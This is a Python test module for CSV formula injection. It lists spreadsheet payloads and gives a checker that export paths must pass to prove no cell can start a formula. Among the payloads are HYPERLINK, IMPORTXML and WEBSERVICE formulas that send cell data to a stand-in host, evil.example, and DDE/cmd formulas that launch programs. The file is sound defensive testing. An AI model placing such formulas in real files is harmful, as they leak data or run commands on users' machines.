"""Spreadsheet-formula payloads (OWASP CSV injection) and the check every export path must pass.

The check does not use the exporter's code: a text cell is unsafe when it, or
any part of it after a ``;`` or ``,`` (where spreadsheets split cells again),
starts (after spaces) with ``= + - @``, tab, CR or their full-width forms and
is not a plain number.
"""
from __future__ import annotations

import re

TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"

PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "Acme;=1+1",
    "Acme; =1+1",
    "Acme,=1+1",
    "Acme, -2+3",
    "a;b;@SUM(A1)",
    "x,\t=1",
    "=1+1;=2+2",
    ";=1",
    ",@x",
    " =1+1",
    "\u00a0+1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff20SUM(A1)",
    "-",
    "==",
    "=0x41",
    "-Plus",
    "@Home",
    "+Plus Corp",
    "Samsung; -Plus",
)
#: text that is no formula and must come out exactly as it went in
UNTOUCHED: tuple[str, ...] = ("-5", "+81", "-3.5%", "Intel; -3%", "SoftBank Group", "삼성전자; SK hynix", "a-b=c")

_NUMBER = re.compile(r"[+\-\uff0b\uff0d]?(?:\d[\d.]*|\.\d+)(?:[eE][+-]?\d+)?%?\s*")


def formula_start(piece: str) -> bool:
    """Would a spreadsheet run this cell (or cell part) as a formula?"""
    body = piece.lstrip(" \u00a0")
    return bool(body) and body[0] in TRIGGERS and not _NUMBER.fullmatch(body)


def assert_csv_safe(cell: str, original: str) -> None:
    """No part of ``cell`` starts a formula, and removing the added apostrophes gives back ``original``."""
    for piece in [cell, *re.split(r"[;,]", cell)[1:]]:
        assert not formula_start(piece), (original, cell, piece)
    assert re.sub(rf"'(?=[{re.escape(TRIGGERS)}])", "", cell) == original, (original, cell)
